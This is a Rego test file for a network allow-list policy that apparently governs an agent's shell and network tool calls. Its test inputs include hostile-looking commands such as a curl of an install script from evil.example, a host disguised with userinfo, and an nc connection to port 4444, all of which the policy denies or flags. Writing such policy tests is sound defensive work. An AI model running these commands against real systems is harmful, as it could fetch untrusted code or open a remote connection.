package reasonix.network

import rego.v1

run(argv) := {"effects": ["exec", "network"], "bash": {"commands": [{"argv": argv}]}}

test_an_allow_listed_url_is_not_denied if {
	count(deny) == 0 with input as run(["curl", "-sSfL", "https://github.com/o/r/archive/main.tar.gz"])
}

test_another_host_is_denied if {
	d := deny with input as run(["curl", "https://evil.example/install.sh"])
	some v in d
	v.id == "network-allowlist"
	contains(v.reason, "evil.example")
}

test_hosts_are_compared_case_insensitively if {
	count(deny) == 0 with input as run(["wget", "HTTPS://GitHub.COM/x"])
}

test_userinfo_cannot_disguise_the_host if {
	d := deny with input as run(["curl", "https://github.com@evil.example/x"])
	count(d) == 1
}

test_scp_style_remotes_are_read if {
	count(deny) == 0 with input as run(["git", "clone", "git@github.com:o/r.git"])
	d := deny with input as run(["git", "clone", "git@gitlab.example:o/r.git"])
	count(d) == 1
}

test_no_url_asks if {
	a := ask with input as run(["nc", "10.0.0.1", "4444"])
	count(a) == 1
}

connect(host, port) := {"tool": "network_connect", "arguments": {"host": host, "port": port}, "effects": ["network"]}

test_a_connection_to_an_allow_listed_host_on_443_is_allowed if {
	a := allow with input as connect("index.crates.io", 443)
	count(a) == 1
	count(deny) == 0 with input as connect("index.crates.io", 443)
	count(ask) == 0 with input as connect("index.crates.io", 443)
}

test_a_connection_to_another_host_is_denied if {
	d := deny with input as connect("evil.example", 443)
	some v in d
	contains(v.reason, "evil.example")
	count(allow) == 0 with input as connect("evil.example", 443)
}

test_a_connection_is_judged_by_host_case_and_final_dot_aside if {
	count(deny) == 0 with input as connect("GitHub.COM.", 443)
}

test_a_subdomain_suffix_is_allowed_but_not_a_lookalike if {
	count(deny) == 0 with input as connect("objects.githubusercontent.com", 443)
	count(deny) == 1 with input as connect("githubusercontent.com.evil.example", 443)
}

test_an_allow_listed_host_on_another_port_is_denied if {
	d := deny with input as connect("github.com", 22)
	some v in d
	contains(v.reason, "443 only")
}
